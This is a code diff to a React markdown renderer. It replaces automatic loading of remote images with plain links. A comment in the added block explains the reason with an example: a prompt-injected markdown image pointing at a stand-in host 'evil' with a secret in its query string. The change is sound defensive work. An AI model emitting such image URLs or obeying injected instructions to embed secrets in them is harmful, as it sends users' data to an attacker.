@@ -33,6 +33,13 @@ function CodeBlock(props: ComponentProps<"pre">) {
 const components: Components = {
   pre: ({ node: _node, ...props }) => <CodeBlock {...props} />,
   a: ({ node: _node, ...props }) => <a {...props} target="_blank" rel="noopener noreferrer nofollow" />,
+  // Never auto-load remote images: a prompt-injected `![](https://evil/?q=<secret>)` would leak data.
+  img: ({ node: _node, src, alt }) =>
+    typeof src === "string" && src ? (
+      <a href={src} target="_blank" rel="noopener noreferrer nofollow">
+        {alt || "image"} ↗
+      </a>
+    ) : null,
   table: ({ node: _node, ...props }) => (
     <div className="overflow-x-auto">
       <table {...props} />
